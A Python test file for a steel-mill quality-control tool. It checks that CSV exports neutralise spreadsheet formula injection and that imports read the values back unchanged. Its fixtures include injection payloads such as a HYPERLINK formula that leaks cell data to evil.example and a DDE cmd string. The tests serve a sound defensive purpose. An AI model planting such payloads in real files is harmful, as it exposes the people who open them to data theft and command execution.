"""CSV written by the program cannot run in a spreadsheet (issue 12; OWASP, "CSV Injection").

Every CSV the program writes (the heats and ingots exports, the trends view's chart data)
puts a single quote before a cell that starts with =, +, -, @, a tab or a carriage return
(blanks before them too), and the program's own import takes it off again: an export
imported again holds the very values it was made from. A plain number (-0.5) is not
quoted: a spreadsheet reads it as a number, which runs nothing.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qcdesk import csvio
from qcdesk import trends as tr
from qcdesk.cells import read_cell, safe_cell
from qcdesk.cli import main
from qcdesk.model import Disposition, IngotDefect
from qcdesk.store import NewHeat, NewIngot, Store

DAY = date(2024, 3, 5)
GOOD = {"C": 0.18, "Si": 0.25, "Mn": 0.5, "P": 0.03, "S": 0.03}
# What a spreadsheet would run, were the cell written as it is.
RUNS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")

HOSTILE_HEAT_NOS = ["=1+1", "@SUM(A1)", "+A1", "-2+3", "-5", "'=x", "=HYPERLINK(1)"]
HOSTILE_PEOPLE = ['=HYPERLINK("http://evil.example/?"&A1,"Wang")', "@SUM(1+1)", "+cmd", "-1+1",
                  "=cmd|' /C calc'!A0", "''=two quotes", "＝1+1"]
HOSTILE_NOTES = ["=1+1", "-- see the lab", "+86 10 5555 0000", "@here", " =1+1", "=SUM(A1:A9)", "'@x"]


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def assert_nothing_runs(path: Path) -> None:
    """No cell of the file, as a spreadsheet reads it, starts a formula (plain numbers aside)."""
    for row in cells_of(path):
        for cell in row:
            assert not RUNS.match(cell) or PLAIN_NUMBER.fullmatch(cell), (path.name, cell)


# ------------------------------------------------------------------- the rule

@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (" =1", "' =1"), ("＝1", "'＝1"),
    ("'=1", "''=1"), ("''@x", "'''@x"),  # a quote of its own survives the way back
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("-", "'-"), ("-0.5x", "'-0.5x"),
    ("Wang", "Wang"), ("王建国", "王建国"), ("'quoted'", "'quoted'"), ("", ""), ("a=b", "a=b"),
])
def test_a_cell_that_would_run_gets_a_quote_and_reads_back(value: str, written: str) -> None:
    assert safe_cell(value) == written
    assert read_cell(written) == value


def test_numbers_and_nothing_are_cells_as_csv_writes_them() -> None:
    assert [safe_cell(v) for v in (None, 3, -0.5, 1e-05, 0.1 + 0.2)] == ["", "3", "-0.5", "1e-05",
                                                                          "0.30000000000000004"]


@given(st.text())
def test_every_text_reads_back_as_it_was(value: str) -> None:
    written = safe_cell(value)
    assert read_cell(written) == value
    assert not RUNS.match(written) or PLAIN_NUMBER.fullmatch(written) or re.fullmatch(
        r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", written)


# ------------------------------------------------------- exports, and back in

def shop(path: Path) -> Store:
    """A database whose free-text fields hold formulas, as far as the rules let them."""
    store = Store.open(path, "tester")
    store.add_converter("=4", "=Converter")
    store.add_grade("@G1", "=1+1")
    store.add_defect("-X", "=HYPERLINK(1)", "@缩孔", "surface")
    for n, (heat_no, person, notes) in enumerate(zip(HOSTILE_HEAT_NOS, HOSTILE_PEOPLE, HOSTILE_NOTES,
                                                     strict=True)):
        store.add_heat(NewHeat(heat_no, "=4" if n % 2 else "1", datetime(2024, 3, 5, 8 + n, 0),
                               "@G1" if n % 3 == 0 else "Q235B", 30.0, None, person, notes, GOOD))
        store.add_ingots(heat_no, [NewIngot(1, 1000.0, Disposition.ACCEPTED, person, (IngotDefect("-X"),)),
                                   NewIngot(2, 900.0, Disposition.SCRAP, HOSTILE_PEOPLE[-1 - n])])
    return store


def record(store: Store) -> tuple[list[object], list[object]]:
    heats: list[object] = [(h.heat_no, h.converter, h.tapped_at, h.grade, h.inspector, h.notes, h.analysis)
             for h in store.heats(DAY, DAY)]
    ingots: list[object] = [(i.heat_no, i.ingot_no, i.weight_kg, i.disposition, i.defects, i.inspector)
              for i in store.iter_ingots(DAY, DAY)]
    return heats, ingots


def test_an_export_runs_nothing_and_imports_back_to_the_same_records(tmp_path: Path) -> None:
    with shop(tmp_path / "first.sqlite") as first:
        assert csvio.export_heats(first, tmp_path / "heats-1.csv") == 7
        assert csvio.export_ingots(first, tmp_path / "ingots-1.csv") == 14
        before = record(first)
    for name in ("heats-1.csv", "ingots-1.csv"):
        assert_nothing_runs(tmp_path / name)
    heats = {row[0]: row for row in cells_of(tmp_path / "heats-1.csv")}  # inspector, notes: 7th, 8th
    assert heats["'=1+1"][6:8] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Wang")', "'=1+1"]
    assert heats["-5"][:8] == ["-5", "1", "2024-03-05 12:00", "Q235B", "30", "", "'=cmd|' /C calc'!A0",
                               "'=1+1"]  # a plain number as it is; the note was saved trimmed
    assert heats["'@SUM(A1)"][:4] == ["'@SUM(A1)", "'=4", "2024-03-05 09:00", "Q235B"]
    assert heats["''=x"][6:8] == ["'''=two quotes", "'=SUM(A1:A9)"]
    assert heats["'=HYPERLINK(1)"][6:8] == ["'=1+1", "''@x"]  # ＝ was saved as = (NFKC)
    with Store.open(tmp_path / "second.sqlite", "tester") as second:
        second.add_converter("=4", "=Converter")
        second.add_grade("@G1", "=1+1")
        second.add_defect("-X", "=HYPERLINK(1)", "@缩孔", "surface")
        assert csvio.import_heats(second, tmp_path / "heats-1.csv") == 7
        assert csvio.import_ingots(second, tmp_path / "ingots-1.csv") == 14
        assert record(second) == before
        assert second.heat("=1+1").notes == "=1+1"
        assert second.heat("'=x").inspector == "''=two quotes"
        assert second.heat("-5").inspector == "=cmd|' /C calc'!A0"
        csvio.export_heats(second, tmp_path / "heats-2.csv")
        csvio.export_ingots(second, tmp_path / "ingots-2.csv")
    assert (tmp_path / "heats-2.csv").read_bytes() == (tmp_path / "heats-1.csv").read_bytes()
    assert (tmp_path / "ingots-2.csv").read_bytes() == (tmp_path / "ingots-1.csv").read_bytes()


def test_the_command_line_export_and_import_go_round(tmp_path: Path) -> None:
    shop(tmp_path / "first.sqlite").close()
    out, err = io.StringIO(), io.StringIO()
    assert main(["--db", str(tmp_path / "first.sqlite"), "export", "heats", str(tmp_path / "h.csv")],
                out, err) == 0
    assert_nothing_runs(tmp_path / "h.csv")
    with Store.open(tmp_path / "second.sqlite", "tester") as second:
        second.add_converter("=4", "=Converter")
        second.add_grade("@G1", "=1+1")
    assert main(["--db", str(tmp_path / "second.sqlite"), "import", "heats", str(tmp_path / "h.csv")],
                out, err) == 0, err.getvalue()
    with Store.open(tmp_path / "second.sqlite", "tester") as second:
        assert [h.notes for h in second.heats(DAY, DAY)] == [n.strip() for n in HOSTILE_NOTES]
        assert [h.heat_no for h in second.heats(DAY, DAY)] == HOSTILE_HEAT_NOS


def test_a_file_written_by_hand_with_a_leading_quote_loses_one(store: Store, tmp_path: Path) -> None:
    """The other side of the rule, said plainly: a person's own file is read the same way."""
    path = tmp_path / "heats.csv"
    path.write_text("heat_no,converter,tapped_at,grade,tap_weight_t,tap_temp_c,inspector,notes\n"
                    "H1,1,2024-03-05 09:00,Q235B,30,,Wang,'=1+1\n"
                    "H2,1,2024-03-05 10:00,Q235B,30,,Wang,'quoted'\n", encoding="utf-8")
    assert csvio.import_heats(store, path) == 2
    assert (store.heat("H1").notes, store.heat("H2").notes) == ("=1+1", "'quoted'")


# ------------------------------------------------------------- the chart data

def test_the_trends_chart_data_runs_nothing(tmp_path: Path) -> None:
    with shop(tmp_path / "first.sqlite") as store:
        t = tr.trends(store, tr.Period.custom(DAY, DAY))
        tr.write_csv(tmp_path / "pareto.csv", tr.pareto_table(t.pareto_by_count))
        tr.write_csv(tmp_path / "converters.csv", tr.comparison_table(t.by_converter, "converter"))
        tr.write_csv(tmp_path / "grades.csv", tr.comparison_table(t.by_grade, "grade"))
    for name in ("pareto.csv", "converters.csv", "grades.csv"):
        assert_nothing_runs(tmp_path / name)
    pareto = cells_of(tmp_path / "pareto.csv")
    assert pareto[1][:4] == ["'-X", "'=HYPERLINK(1)", "'@缩孔", "7"]  # seven ingots found with -X
    assert "'=4" in [row[0] for row in cells_of(tmp_path / "converters.csv")]
    assert "'@G1" in [row[0] for row in cells_of(tmp_path / "grades.csv")]


def test_a_table_of_numbers_stays_numbers(tmp_path: Path) -> None:
    tr.write_csv(tmp_path / "t.csv", (("a", "b", "c"), [(-0.5, "-0.25", 3), ("", None, "=1")]))
    assert cells_of(tmp_path / "t.csv") == [["a", "b", "c"], ["-0.5", "-0.25", "3"], ["", "", "'=1"]]
